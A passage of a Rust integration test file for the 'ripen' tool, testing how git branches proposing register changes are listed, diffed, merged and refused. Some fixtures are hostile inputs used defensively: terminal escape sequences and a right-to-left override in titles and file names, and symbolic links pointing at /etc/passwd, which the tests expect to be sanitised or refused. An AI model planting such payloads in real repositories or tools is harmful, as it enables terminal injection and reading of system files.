//! Proposals: branches that change the register, listed and accepted with
//! `ripen::git::proposals` against real repositories.
//!
//! Every test builds its own repository in a temporary directory with a
//! repository-local identity and fixed signatures and times for the commits
//! it makes itself. The user's global and system git configuration is hidden
//! from libgit2 for the whole test binary (see [`hermetic`]).
//!
//! Refusals are checked by what the user would notice: the error, and that
//! the repository is exactly as before (HEAD, every ref, the index file's
//! bytes, every working-tree file, and the files at the top of `.git`).

mod common_tui;
mod support;

use std::fs;
use std::path::{Path, PathBuf};
use support::observe::Observed;

use git2::{
    IndexAddOption, Oid, Repository, RepositoryInitOptions, Signature, StatusOptions,
    build::CheckoutBuilder,
};
use ripen::diff::{FieldChange, FieldValue, Status};
use ripen::git::proposals::{self, AcceptError, AcceptOptions, Accepted, Proposal};
use ripen::model::{Date, Policy, Settings, Stage, UseCase, canonical};
use ripen::register::Severity;
use serde_json::{Value, json};
use support::repo::{hermetic, put};
use support::run::Run;

const NAME: &str = "Rita Register";
const EMAIL: &str = "rita@example.com";
const T0: i64 = 1_700_000_000;
const CLAIMS: &str = "state/use-cases/claims-triage.ron";
const INVOICES: &str = "state/use-cases/invoices.ron";
const BRANCH: &str = "team/claims-update";

fn as_of() -> Date {
    Date::parse("2026-10-15").unwrap()
}

fn today() -> Date {
    Date::parse("2026-01-01").unwrap()
}

/// Who makes a commit: name and e-mail.
#[derive(Clone, Copy)]
struct Who(&'static str, &'static str);

const ALICE: Who = Who("Alice Archer", "alice@example.com");
const BOB: Who = Who("Bob Baker", "bob@example.com");
const SEED: Who = Who("Seed Author", "seed@example.com");

fn case(title: &str) -> UseCase {
    UseCase::scaffold(title, "owner@example.com", "Claims")
}

fn text(u: &UseCase) -> String {
    canonical::use_case(u)
}

/// A file of a commit: its path, and its content and mode (`None` to delete).
type RawFile<'a> = (&'a str, Option<(Vec<u8>, i32)>);

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    state: PathBuf,
    repo: Repository,
}

impl Fixture {
    /// `main` with README.md and a register of two use cases,
    /// `claims-triage` and `invoices`, committed and checked out.
    fn new() -> Fixture {
        Fixture::build(true)
    }

    fn build(identity: bool) -> Fixture {
        hermetic();
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut opts = RepositoryInitOptions::new();
        opts.initial_head("main");
        let repo = Repository::init_opts(&root, &opts).unwrap();
        if identity {
            let mut config = repo.config().unwrap();
            config.set_str("user.name", NAME).unwrap();
            config.set_str("user.email", EMAIL).unwrap();
        }
        let state = root.join("state");
        fs::create_dir_all(state.join("use-cases")).unwrap();
        fs::write(root.join("README.md"), "# Register\n").unwrap();
        fs::write(
            state.join("register.ron"),
            canonical::settings(&Settings::new("Test register")),
        )
        .unwrap();
        fs::write(
            state.join("policy.ron"),
            canonical::policy(&Policy::default()),
        )
        .unwrap();
        fs::write(root.join(CLAIMS), text(&case("Claims triage"))).unwrap();
        fs::write(root.join(INVOICES), text(&case("Invoice extraction"))).unwrap();
        let fx = Fixture {
            _dir: dir,
            root,
            state,
            repo,
        };
        {
            let mut index = fx.repo.index().unwrap();
            index.add_all(["*"], IndexAddOption::DEFAULT, None).unwrap();
            index.write().unwrap();
            let tree = fx.repo.find_tree(index.write_tree().unwrap()).unwrap();
            let sig = signature(SEED, 0);
            fx.repo
                .commit(Some("HEAD"), &sig, &sig, "Seed the register", &tree, &[])
                .unwrap();
        }
        fx
    }

    fn head(&self) -> Oid {
        self.repo.head().unwrap().peel_to_commit().unwrap().id()
    }

    /// A commit on `parent` with `files` changed (content, or `None` to
    /// delete), by `who` at `T0 + minute * 60`. Moves no branch.
    fn commit_on(
        &self,
        parent: Oid,
        files: &[(&str, Option<&str>)],
        message: &str,
        who: Who,
        minute: i64,
    ) -> Oid {
        let raw: Vec<RawFile<'_>> = files
            .iter()
            .map(|(p, c)| (*p, c.map(|c| (c.as_bytes().to_vec(), 0o100644))))
            .collect();
        self.commit_raw(parent, &raw, message, who, minute)
    }

    fn commit_raw(
        &self,
        parent: Oid,
        files: &[RawFile<'_>],
        message: &str,
        who: Who,
        minute: i64,
    ) -> Oid {
        let repo = &self.repo;
        let parent = repo.find_commit(parent).unwrap();
        let mut tree_id = Some(parent.tree_id());
        for (path, content) in files {
            let blob = content
                .as_ref()
                .map(|(c, mode)| (repo.blob(c).unwrap(), *mode));
            let base = tree_id.map(|id| repo.find_tree(id).unwrap());
            let parts: Vec<&str> = path.split('/').collect();
            tree_id = put(repo, base.as_ref(), &parts, blob);
        }
        let tree = repo.find_tree(tree_id.unwrap()).unwrap();
        let sig = signature(who, minute);
        repo.commit(None, &sig, &sig, message, &tree, &[&parent])
            .unwrap()
    }

    /// Points branch `name` (`refs/heads/<name>`) at `id`.
    fn branch(&self, name: &str, id: Oid) {
        self.repo
            .reference(&format!("refs/heads/{name}"), id, true, "test")
            .unwrap();
    }

    /// Moves `main` to `id` and checks it out (working tree and index).
    fn advance_main(&self, id: Oid) {
        self.branch("main", id);
        self.repo
            .checkout_head(Some(CheckoutBuilder::new().force()))
            .unwrap();
    }

    /// A branch `team/claims-update` of two commits on HEAD: Alice moves
    /// claims-triage to Collect, then Bob sets its curated examples.
    fn claims_update(&self) -> Oid {
        let mut u = case("Claims triage");
        u.stage = Stage::Collect;
        let first = self.commit_on(
            self.head(),
            &[(CLAIMS, Some(&text(&u)))],
            "Move claims triage to Collect",
            ALICE,
            10,
        );
        u.profile.curated_examples = 500;
        let second = self.commit_on(
            first,
            &[(CLAIMS, Some(&text(&u)))],
            "Count the curated examples",
            BOB,
            20,
        );
        self.branch(BRANCH, second);
        second
    }

    fn list(&self) -> Vec<Proposal> {
        proposals::list(&self.state, Some(as_of()), today()).unwrap()
    }

    fn accept(&self, branch: &str, tip: Oid) -> Result<Accepted, AcceptError> {
        proposals::accept(
            &self.state,
            branch,
            tip,
            &AcceptOptions::default(),
            Some(as_of()),
            today(),
        )
    }

    fn accept_with(
        &self,
        branch: &str,
        tip: Oid,
        options: &AcceptOptions,
    ) -> Result<Accepted, AcceptError> {
        proposals::accept(&self.state, branch, tip, options, Some(as_of()), today())
    }

    fn read(&self, repo_rel: &str) -> Option<Vec<u8>> {
        fs::read(self.root.join(repo_rel)).ok()
    }

    /// The blob at `path` in commit `id`'s tree.
    fn blob_at(&self, id: Oid, path: &str) -> Option<Vec<u8>> {
        let tree = self.repo.find_commit(id).unwrap().tree().unwrap();
        let entry = tree.get_path(Path::new(path)).ok()?;
        Some(self.repo.find_blob(entry.id()).unwrap().content().to_vec())
    }

    /// Every status entry (untracked included): empty when clean.
    fn statuses(&self) -> Vec<String> {
        let mut opts = StatusOptions::new();
        opts.include_untracked(true).recurse_untracked_dirs(true);
        let repo = Repository::open(&self.root).unwrap();
        let statuses = repo.statuses(Some(&mut opts)).unwrap();
        statuses
            .iter()
            .map(|s| format!("{:?} {}", s.status(), s.path().unwrap()))
            .collect()
    }

    /// The index entry's blob for `path`.
    fn index_blob(&self, path: &str) -> Option<Oid> {
        let repo = Repository::open(&self.root).unwrap();
        let index = repo.index().unwrap();
        index.get_path(Path::new(path), 0).map(|e| e.id)
    }

    /// Everything a refusal must leave alone.
    fn observe(&self) -> Observed {
        support::observe::observe(&self.repo, &self.root)
    }
}

fn allow_other() -> AcceptOptions {
    AcceptOptions {
        allow_other_files: true,
        ..AcceptOptions::default()
    }
}

fn signature(who: Who, minute: i64) -> Signature<'static> {
    support::repo::signature(who.0, who.1, T0 + minute * 60)
}

fn name(s: &str) -> FieldValue {
    FieldValue::Name(s.to_owned())
}

fn branches(list: &[Proposal]) -> Vec<&str> {
    list.iter().map(|p| p.branch.as_str()).collect()
}

/// Runs accept, expects a refusal, and checks that nothing changed.
fn refused(fx: &Fixture, branch: &str, tip: Oid) -> AcceptError {
    let before = fx.observe();
    let err = fx
        .accept(branch, tip)
        .expect_err("accepting should be refused");
    assert_eq!(fx.observe(), before, "a refusal changed the repository");
    // The preview refuses the same way.
    let preview = proposals::preview(
        &fx.state,
        branch,
        &AcceptOptions::default(),
        Some(as_of()),
        today(),
    );
    assert!(preview.is_err(), "preview accepted what accept refused");
    assert_eq!(fx.observe(), before, "a preview changed the repository");
    err
}

// ---------------------------------------------------------------- listing

#[test]
fn a_valid_proposal_is_listed_with_its_diff() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    let list = fx.list();
    assert_eq!(branches(&list), vec![BRANCH]);
    let p = &list[0];
    assert_eq!(p.reference, "refs/heads/team/claims-update");
    assert_eq!(p.commits, 2);
    assert_eq!(
        p.authors,
        vec![
            "Bob Baker <bob@example.com>".to_owned(),
            "Alice Archer <alice@example.com>".to_owned()
        ]
    );
    assert_eq!(p.last_commit_time.timestamp(), T0 + 20 * 60);
    assert!(p.valid, "{:?}", p.diagnostics);
    assert_eq!(p.errors(), 0);
    assert!(p.mergeable);
    assert_eq!(p.files_outside_state, 0);
    assert_eq!(p.tip, tip);
    assert_eq!(p.base, fx.head());
    assert_eq!(p.changes.as_of.before, as_of());
    assert_eq!(p.changes.as_of.after, as_of());
    assert!(p.changes.settings.is_empty() && p.changes.policy.is_empty());
    assert_eq!(p.changes.use_cases.len(), 1);
    let u = &p.changes.use_cases[0];
    assert_eq!(u.id, "claims-triage");
    assert_eq!(u.status, Status::Changed);
    assert_eq!(
        u.changes,
        vec![
            FieldChange::new("stage", name("Identify"), name("Collect")),
            FieldChange::new(
                "profile.curated_examples",
                FieldValue::Int(0),
                FieldValue::Int(500)
            ),
        ]
    );
}

#[test]
fn an_invalid_proposal_is_listed_with_its_diagnostics() {
    let fx = Fixture::new();
    let broken = "(\n    title: 42,\n)\n";
    let tip = fx.commit_on(
        fx.head(),
        &[(CLAIMS, Some(broken))],
        "Break claims triage",
        ALICE,
        10,
    );
    fx.branch("team/broken", tip);
    let list = fx.list();
    assert_eq!(branches(&list), vec!["team/broken"]);
    let p = &list[0];
    assert!(!p.valid);
    assert!(p.errors() >= 1);
    let d = p
        .diagnostics
        .iter()
        .find(|d| d.severity == Severity::Error)
        .unwrap();
    assert_eq!(d.file, "team/broken:state/use-cases/claims-triage.ron");
    // On the line of the bad value, past its indentation (the exact
    // column is the parser's business).
    assert_eq!(d.line, 2, "{d}");
    assert!(d.column > 4, "{d}");
    // The broken use case is not "removed": its file changed and does not
    // load, and the diff says so.
    let u = &p.changes.use_cases[0];
    assert_eq!(u.id, "claims-triage");
    assert_eq!(u.status, Status::Changed);
    assert_eq!(u.changes[0].field, "parse_error");
    let why = u.changes[0].to.to_string();
    assert!(
        why.contains("2:") && why.contains("expected a string"),
        "{why}"
    );
}

#[test]
fn a_conflicting_proposal_is_not_mergeable() {
    let fx = Fixture::new();
    let seed = fx.head();
    let ours = fx.commit_on(
        seed,
        &[(CLAIMS, Some(&text(&case("Claims triage, ours"))))],
        "Retitle on main",
        ALICE,
        10,
    );
    fx.advance_main(ours);
    let theirs = fx.commit_on(
        seed,
        &[(CLAIMS, Some(&text(&case("Claims triage, theirs"))))],
        "Retitle on the branch",
        BOB,
        20,
    );
    fx.branch("team/retitle", theirs);
    let list = fx.list();
    assert_eq!(branches(&list), vec!["team/retitle"]);
    assert!(list[0].valid);
    assert!(!list[0].mergeable);
    assert_eq!(list[0].base, seed);
    assert_eq!(
        list[0].changes.use_cases[0].changes,
        vec![FieldChange::new(
            "title",
            FieldValue::Text("Claims triage".into()),
            FieldValue::Text("Claims triage, theirs".into())
        )]
    );
}

#[test]
fn merged_and_code_only_branches_are_not_listed() {
    let fx = Fixture::new();
    let seed = fx.head();
    // Merged: a branch at HEAD, and one at an ancestor of HEAD.
    fx.branch("at-head", seed);
    let mut u = case("Claims triage");
    u.stage = Stage::Collect;
    let next = fx.commit_on(seed, &[(CLAIMS, Some(&text(&u)))], "Collect", ALICE, 5);
    fx.advance_main(next);
    fx.branch("old", seed);
    // Only outside the state directory.
    let code = fx.commit_on(
        next,
        &[
            ("README.md", Some("# Changed\n")),
            ("src/x.rs", Some("fn x() {}\n")),
        ],
        "Code only",
        BOB,
        10,
    );
    fx.branch("code-only", code);
    // Changes inside state/ undone later on the same branch.
    let there = fx.commit_on(next, &[(INVOICES, Some("broken"))], "Break", BOB, 11);
    let back = fx.commit_on(
        there,
        &[(INVOICES, Some(&text(&case("Invoice extraction"))))],
        "Unbreak",
        BOB,
        12,
    );
    fx.branch("round-trip", back);
    assert!(fx.list().is_empty(), "{:?}", branches(&fx.list()));
}

#[test]
fn remote_tracking_branches_are_listed() {
    let fx = Fixture::new();
    let mut u = case("Invoice extraction");
    u.stage = Stage::Collect;
    let tip = fx.commit_on(
        fx.head(),
        &[(INVOICES, Some(&text(&u)))],
        "Collect",
        BOB,
        10,
    );
    fx.repo
        .reference("refs/remotes/origin/team/invoices", tip, true, "fetch")
        .unwrap();
    fx.repo
        .reference_symbolic(
            "refs/remotes/origin/HEAD",
            "refs/remotes/origin/team/invoices",
            true,
            "test",
        )
        .unwrap();
    // A local branch with the same tip is listed too, before it.
    fx.branch("invoices", tip);
    let list = fx.list();
    assert_eq!(branches(&list), vec!["invoices", "origin/team/invoices"]);
    assert_eq!(list[1].reference, "refs/remotes/origin/team/invoices");
    assert_eq!(list[1].commits, 1);
    assert!(list[1].valid && list[1].mergeable);
    // And it can be accepted by that name.
    let Accepted::Merged { commit } = fx.accept("origin/team/invoices", tip).unwrap();
    assert_eq!(
        fx.repo.find_commit(commit).unwrap().parent_id(1).unwrap(),
        tip
    );
    assert!(fx.list().is_empty());
}

#[test]
fn nothing_is_listed_before_the_first_commit() {
    // HEAD without a commit: nothing to compare with, nothing listed.
    hermetic();
    let dir = tempfile::tempdir().unwrap();
    let mut opts = RepositoryInitOptions::new();
    opts.initial_head("main");
    Repository::init_opts(dir.path(), &opts).unwrap();
    let list = proposals::list(&dir.path().join("state"), None, today()).unwrap();
    assert!(list.is_empty());
}

#[test]
fn hostile_branch_content_is_listed_without_harm() {
    let fx = Fixture::new();
    let mut u = case("Evil \u{1b}]0;pwned\u{7} title \u{202e}");
    u.notes = "\u{1b}[2J".to_owned();
    let huge = "x".repeat(1024 * 1024 + 1);
    let tip = fx.commit_on(
        fx.head(),
        &[
            (CLAIMS, Some(&text(&u))),
            ("state/use-cases/huge.ron", Some(&huge)),
            ("state/use-cases/not\u{1b}[31mred.ron", Some("(")),
            ("state/register.ron", Some("\u{0}\u{1b}garbage")),
        ],
        "Hostile",
        BOB,
        10,
    );
    fx.branch("team/hostile", tip);
    let list = fx.list();
    assert_eq!(branches(&list), vec!["team/hostile"]);
    let p = &list[0];
    assert!(!p.valid);
    assert!(
        p.diagnostics
            .iter()
            .any(|d| d.file.ends_with("huge.ron") && d.message.contains("1 MiB")),
        "{:?}",
        p.diagnostics
    );
    let err = refused(&fx, "team/hostile", tip);
    assert!(matches!(err, AcceptError::Invalid { .. }), "{err}");
    assert!(!err.to_string().contains('\u{1b}'), "{err}");

    let out = ripen(&fx.root, &["proposals"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("INVALID"), "{}", out.stdout);
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{0}'] {
        assert!(!out.stdout.contains(c), "raw {c:?} in {}", out.stdout);
    }
    // Piped output is never cut.
    assert!(!out.stdout.contains('…'), "{}", out.stdout);
    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(!out.stdout.contains('\u{1b}'));
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v[0]["valid"], json!(false));
}

// -------------------------------------------------------------- accepting

#[test]
fn accepting_a_branch_ahead_of_head_is_a_merge_commit_by_the_accepter() {
    let fx = Fixture::new();
    let old_head = fx.head();
    let tip = fx.claims_update();
    // The branch also adds a use case and removes one.
    let tip = fx.commit_on(
        tip,
        &[
            ("state/use-cases/new-case.ron", Some(&text(&case("New")))),
            (INVOICES, None),
        ],
        "Add one, remove one",
        ALICE,
        30,
    );
    fx.branch(BRANCH, tip);
    let listed = fx.list();
    assert_eq!(listed[0].tip, tip);

    let preview = proposals::preview(
        &fx.state,
        BRANCH,
        &AcceptOptions::default(),
        Some(as_of()),
        today(),
    )
    .unwrap();
    assert_eq!(preview.head, old_head);
    assert_eq!(preview.into, "refs/heads/main");
    assert_eq!(
        preview.files,
        vec![
            CLAIMS.to_owned(),
            INVOICES.to_owned(),
            "state/use-cases/new-case.ron".to_owned()
        ]
    );

    // Never a fast-forward: git would move main to the branch's last
    // commit, and nothing would record who accepted it.
    let Accepted::Merged { commit } = fx.accept(BRANCH, listed[0].tip).unwrap();
    assert_eq!(fx.head(), commit);
    let merge = fx.repo.find_commit(commit).unwrap();
    assert_eq!(merge.parent_ids().collect::<Vec<_>>(), vec![old_head, tip]);
    assert_eq!(merge.tree_id(), fx.repo.find_commit(tip).unwrap().tree_id());
    assert_eq!(merge.author().name(), Ok(NAME), "authored by the accepter");
    assert_eq!(merge.author().email(), Ok(EMAIL));
    let message = merge.message().unwrap();
    assert!(
        message.starts_with("Accept proposal team/claims-update: "),
        "{message}"
    );
    for change in [
        "claims-triage: stage: Identify -> Collect",
        "new-case added",
        "invoices removed",
    ] {
        assert!(message.contains(change), "{change} missing: {message}");
    }
    assert_eq!(
        fx.repo.head().unwrap().name().unwrap(),
        "refs/heads/main",
        "HEAD still on main"
    );
    for path in [CLAIMS, "state/use-cases/new-case.ron"] {
        assert_eq!(fx.read(path), fx.blob_at(tip, path), "{path}");
        let blob = fx.repo.blob(&fx.read(path).unwrap()).unwrap();
        assert_eq!(fx.index_blob(path), Some(blob), "{path}");
    }
    assert_eq!(fx.read(INVOICES), None);
    assert_eq!(fx.index_blob(INVOICES), None);
    assert_eq!(fx.statuses(), Vec::<String>::new());
    assert!(!fx.repo.path().join("index.lock").exists());
    assert!(fx.list().is_empty());
}

#[test]
fn accepting_by_merge_commit() {
    let fx = Fixture::new();
    let seed = fx.head();
    let tip = fx.claims_update();
    // main moves on with another file inside and one outside the register.
    let mut inv = case("Invoice extraction");
    inv.risk = ripen::model::Risk::High;
    let ours = fx.commit_on(
        seed,
        &[
            (INVOICES, Some(&text(&inv))),
            ("README.md", Some("# Register, v2\n")),
        ],
        "Invoices are high risk",
        ALICE,
        40,
    );
    fx.advance_main(ours);
    let listed = fx.list();
    assert_eq!(branches(&listed), vec![BRANCH]);
    assert!(listed[0].mergeable);
    assert_eq!(listed[0].base, seed);

    let Accepted::Merged { commit } = fx.accept(BRANCH, listed[0].tip).unwrap();
    assert_eq!(fx.head(), commit);
    let merge = fx.repo.find_commit(commit).unwrap();
    assert_eq!(merge.parent_ids().collect::<Vec<_>>(), vec![ours, tip]);
    assert_eq!(merge.author().name(), Ok(NAME));
    assert_eq!(merge.committer().email(), Ok(EMAIL));
    let message = merge.message().unwrap();
    assert_eq!(
        message.lines().next().unwrap(),
        "Accept proposal team/claims-update: 1 use case changed (claims-triage: stage: Identify -> Collect; ...)",
        "{message}"
    );
    assert!(
        message.contains("claims-triage: profile.curated_examples: 0 -> 500"),
        "{message}"
    );
    // The tree: the branch's claims-triage, main's invoices and README.
    assert_eq!(fx.blob_at(commit, CLAIMS), fx.blob_at(tip, CLAIMS));
    assert_eq!(fx.blob_at(commit, INVOICES), fx.blob_at(ours, INVOICES));
    assert_eq!(
        fx.blob_at(commit, "README.md"),
        fx.blob_at(ours, "README.md")
    );
    // The working tree and the index follow.
    assert_eq!(fx.read(CLAIMS), fx.blob_at(tip, CLAIMS));
    assert_eq!(fx.read(INVOICES), fx.blob_at(ours, INVOICES));
    assert_eq!(fx.statuses(), Vec::<String>::new());
    assert!(fx.list().is_empty());
}

#[test]
fn an_executable_bit_and_a_new_folder_are_written() {
    let fx = Fixture::new();
    let tip = fx.commit_raw(
        fx.head(),
        &[(
            "state/tools/check.sh",
            Some((b"#!/bin/sh\n".to_vec(), 0o100755)),
        )],
        "A script",
        ALICE,
        10,
    );
    // A non-register file under state/ still changes the state directory.
    fx.branch("tools", tip);
    let listed = fx.list();
    assert_eq!(branches(&listed), vec!["tools"]);
    assert_eq!(
        listed[0].other_files[0].describe(),
        "state/tools/check.sh (not a register file, executable)"
    );
    // Refused unless the user says the other files are reviewed.
    let err = refused(&fx, "tools", tip);
    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
    fx.accept_with("tools", tip, &allow_other()).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(fx.root.join("state/tools/check.sh"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o111, 0o111, "{mode:o}");
    }
    assert_eq!(fx.statuses(), Vec::<String>::new());
}

/// A file edited while accepting, before the branch moves: nothing is
/// accepted, the edit is kept, and the folder made for a new file is gone
/// again. After the branch moves: the merge stays, the edit is kept and
/// named, the other files are written.
#[test]
fn an_edit_during_an_accept_is_kept_before_and_after_the_branch_moves() {
    use ripen::git::commit::Step;
    for at in [Step::Committed, Step::Moved] {
        let fx = Fixture::new();
        let seed = fx.head();
        let mut u = case("Claims triage");
        u.stage = Stage::Collect;
        let script = (
            "state/tools/check.sh",
            Some((b"#!/bin/sh\n".to_vec(), 0o100755)),
        );
        let claims = (CLAIMS, Some((text(&u).into_bytes(), 0o100644)));
        let tip = fx.commit_raw(seed, &[claims, script], "Two", ALICE, 10);
        fx.branch("tools", tip);
        let mine = b"my own edit\n".to_vec();
        let result = proposals::accept_observed(
            &fx.state,
            "tools",
            tip,
            &allow_other(),
            Some(as_of()),
            today(),
            &mut |s| {
                if s == at {
                    fs::write(fx.root.join(CLAIMS), &mine).unwrap();
                }
            },
        );
        let name = at.name();
        assert_eq!(
            fx.read(CLAIMS),
            Some(mine.clone()),
            "{name}: the edit is kept"
        );
        assert!(
            !fx.root.join(".git/ripen").exists(),
            "{name}: no journal left"
        );
        match at {
            Step::Committed => {
                let err = result.expect_err("nothing accepted");
                assert!(matches!(err, AcceptError::ChangedMeanwhile { .. }), "{err}");
                assert!(err.to_string().contains("claims-triage.ron"), "{err}");
                assert_eq!(fx.head(), seed, "{name}: the branch did not move");
                assert!(
                    !fx.root.join("state/tools").exists(),
                    "{name}: no folder left"
                );
            }
            _ => {
                let err = result.expect_err("the edit is reported");
                assert!(matches!(err, AcceptError::KeptEdit { .. }), "{err}");
                assert!(err.to_string().contains("claims-triage.ron"), "{err}");
                let merge = fx.repo.find_commit(fx.head()).unwrap();
                assert_eq!(merge.parent_id(1).unwrap(), tip, "{name}: accepted");
                assert_eq!(
                    fx.read("state/tools/check.sh"),
                    Some(b"#!/bin/sh\n".to_vec())
                );
                assert_eq!(
                    fx.statuses(),
                    vec![format!("Status(WT_MODIFIED) {CLAIMS}")],
                    "{name}: only the edit shows"
                );
            }
        }
    }
}

/// A proposal that only makes a file executable changes its mode on disk.
#[cfg(unix)]
#[test]
fn a_change_of_mode_alone_is_written() {
    use std::os::unix::fs::PermissionsExt;
    let fx = Fixture::new();
    let same = fx.read(CLAIMS).unwrap();
    let tip = fx.commit_raw(
        fx.head(),
        &[(CLAIMS, Some((same, 0o100755)))],
        "Executable",
        ALICE,
        10,
    );
    fx.branch("exec", tip);
    fx.accept_with("exec", tip, &allow_other()).unwrap();
    let mode = fs::metadata(fx.root.join(CLAIMS))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o111, 0o111, "{mode:o}");
    assert_eq!(fx.statuses(), Vec::<String>::new());
}

// --------------------------------------------------------------- refusals

#[test]
fn refuses_an_invalid_proposal() {
    let fx = Fixture::new();
    let tip = fx.commit_on(
        fx.head(),
        &[(CLAIMS, Some("(\n    title: 42,\n)\n"))],
        "Break",
        ALICE,
        10,
    );
    fx.branch("team/broken", tip);
    let err = refused(&fx, "team/broken", tip);
    assert!(matches!(err, AcceptError::Invalid { .. }), "{err}");
    let msg = err.to_string();
    assert!(msg.contains("team/broken does not validate"), "{msg}");
    assert!(
        msg.contains("team/broken:state/use-cases/claims-triage.ron:2:"),
        "{msg}"
    );
}

#[test]
fn refuses_a_conflicting_proposal() {
    let fx = Fixture::new();
    let seed = fx.head();
    let ours = fx.commit_on(
        seed,
        &[(CLAIMS, Some(&text(&case("Ours"))))],
        "Ours",
        ALICE,
        10,
    );
    fx.advance_main(ours);
    let theirs = fx.commit_on(
        seed,
        &[(CLAIMS, Some(&text(&case("Theirs"))))],
        "Theirs",
        BOB,
        20,
    );
    fx.branch("team/retitle", theirs);
    let err = refused(&fx, "team/retitle", theirs);
    assert!(matches!(err, AcceptError::Conflicts { .. }), "{err}");
    assert!(err.to_string().contains(CLAIMS), "{err}");
}

#[test]
fn refuses_uncommitted_changes_under_the_state_directory() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    // An edit of a file the branch does not touch.
    fs::write(fx.root.join(INVOICES), "edited\n").unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::Uncommitted { .. }), "{err}");
    assert!(err.to_string().contains(INVOICES), "{err}");
    // A staged change.
    fs::write(fx.root.join(INVOICES), text(&case("Staged"))).unwrap();
    let mut index = fx.repo.index().unwrap();
    index.add_path(Path::new(INVOICES)).unwrap();
    index.write().unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::Uncommitted { .. }), "{err}");
    // An untracked file.
    fx.repo
        .checkout_head(Some(CheckoutBuilder::new().force()))
        .unwrap();
    fs::write(fx.root.join("state/use-cases/draft.ron"), "draft").unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::Uncommitted { .. }), "{err}");
    // Changes outside the state directory do not matter.
    fs::remove_file(fx.root.join("state/use-cases/draft.ron")).unwrap();
    fs::write(fx.root.join("README.md"), "local edit\n").unwrap();
    fx.accept(BRANCH, tip).unwrap();
    assert_eq!(fx.read("README.md").unwrap(), b"local edit\n");
}

#[test]
fn refuses_with_a_detached_head() {
    let fx = Fixture::new();
    let tip = fx.claims_update();
    fx.repo.set_head_detached(fx.head()).unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::ReadOnly(_)), "{err}");
    assert!(err.to_string().contains("detached"), "{err}");
}

#[test]
fn refuses_a_proposal_that_changes_files_outside_the_state_directory() {
    let fx = Fixture::new();
    let mut u = case("Claims triage");
    u.stage = Stage::Collect;
    let tip = fx.commit_on(
        fx.head(),
        &[
            (CLAIMS, Some(&text(&u))),
            ("src/main.rs", Some("fn main() {}\n")),
        ],
        "Code and register",
        ALICE,
        10,
    );
    fx.branch("team/mixed", tip);
    let listed = fx.list();
    assert_eq!(branches(&listed), vec!["team/mixed"]);
    assert_eq!(listed[0].files_outside_state, 1);
    assert_eq!(listed[0].other_files.len(), 1);
    let err = refused(&fx, "team/mixed", tip);
    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
    let msg = err.to_string();
    assert!(msg.contains("not register files"), "{msg}");
    assert!(
        msg.contains("src/main.rs (outside the state directory)"),
        "{msg}"
    );
    assert!(msg.contains("--allow-other-files"), "{msg}");
}

#[test]
fn refuses_when_the_tip_moved_since_listing() {
    let fx = Fixture::new();
    let listed_tip = fx.claims_update();
    assert_eq!(fx.list()[0].tip, listed_tip);
    let mut u = case("Claims triage");
    u.stage = Stage::Retired;
    let moved = fx.commit_on(listed_tip, &[(CLAIMS, Some(&text(&u)))], "Retire", BOB, 30);
    fx.branch(BRANCH, moved);
    let before = fx.observe();
    let err = fx.accept(BRANCH, listed_tip).unwrap_err();
    assert_eq!(fx.observe(), before);
    assert!(
        matches!(err, AcceptError::TipMoved { now, .. } if now == moved),
        "{err}"
    );
    assert!(
        err.to_string().contains("moved since it was listed"),
        "{err}"
    );
}

#[test]
fn refuses_other_unsafe_states() {
    // A merge in progress.
    let fx = Fixture::new();
    let tip = fx.claims_update();
    fs::write(fx.repo.path().join("MERGE_HEAD"), format!("{tip}\n")).unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::ReadOnly(_)), "{err}");
    assert!(err.to_string().contains("merge"), "{err}");
    fs::remove_file(fx.repo.path().join("MERGE_HEAD")).unwrap();

    // Another process holds the index lock: reported and left alone.
    fs::write(fx.repo.path().join("index.lock"), "").unwrap();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::Locked(_)), "{err}");
    assert!(fx.repo.path().join("index.lock").exists());
    fs::remove_file(fx.repo.path().join("index.lock")).unwrap();

    // An unknown branch, and one already merged.
    let err = refused(&fx, "no-such-branch", tip);
    assert!(matches!(err, AcceptError::UnknownBranch(_)), "{err}");
    fx.branch("old", fx.head());
    let err = refused(&fx, "old", fx.head());
    assert!(matches!(err, AcceptError::AlreadyMerged(_)), "{err}");

    // A symbolic link under the state directory.
    let link = fx.commit_raw(
        fx.head(),
        &[(
            "state/use-cases/link.ron",
            Some((b"/etc/passwd".to_vec(), 0o120000)),
        )],
        "Link",
        BOB,
        50,
    );
    fx.branch("team/link", link);
    let err = refused(&fx, "team/link", link);
    // The loader reports the link, so the branch does not validate, or
    // accepting refuses to write it: either way, refused.
    assert!(
        matches!(
            err,
            AcceptError::Invalid { .. } | AcceptError::OtherFiles { .. }
        ),
        "{err}"
    );

    // No identity.
    let fx = Fixture::build(false);
    let tip = fx.claims_update();
    let err = refused(&fx, BRANCH, tip);
    assert!(matches!(err, AcceptError::NoIdentity), "{err}");
}

#[test]
fn a_link_elsewhere_under_state_is_refused_unwritten() {
    let fx = Fixture::new();
    let link = fx.commit_raw(
        fx.head(),
        &[("state/docs/link", Some((b"/etc/passwd".to_vec(), 0o120000)))],
        "Link",
        BOB,
        50,
    );
    fx.branch("team/link", link);
    let err = refused(&fx, "team/link", link);
    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
    assert!(err.to_string().contains("symbolic link"), "{err}");
